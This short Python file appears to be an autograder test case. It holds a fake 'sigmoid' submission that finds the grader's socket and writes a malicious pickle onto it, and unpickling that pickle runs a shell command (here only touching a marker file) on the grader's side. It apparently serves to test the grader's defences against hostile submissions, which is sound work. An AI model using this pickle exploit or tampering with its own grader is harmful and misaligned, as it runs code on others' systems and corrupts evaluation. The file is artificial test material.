"""It sends a pickle that would run a command on the grader's side, in a message's place.

earns: sigmoid 0
control: trusting writes
"""

# %% first
import gc, os, socket, stat, struct
from autograder.messages import Problem, Reply
from autograder.wire import HEADER, LENGTH, MAGIC, VERSION, pack


def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


wire = next(number for number in range(3, 100) if is_socket(number))


def say(data):
    """Write to the grader's end of the wire, past everything."""
    data = memoryview(bytes(data))
    while data:
        data = data[os.write(wire, data) :]


def say_message(message):
    say(b"".join(bytes(part) for part in pack(message)))


# %% sigmoid
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch @TMP@/ran",)


def sigmoid(x):
    data = pickle.dumps(Command())
    say(HEADER.pack(MAGIC, VERSION, 0, len(data)) + data)
    return 0.0
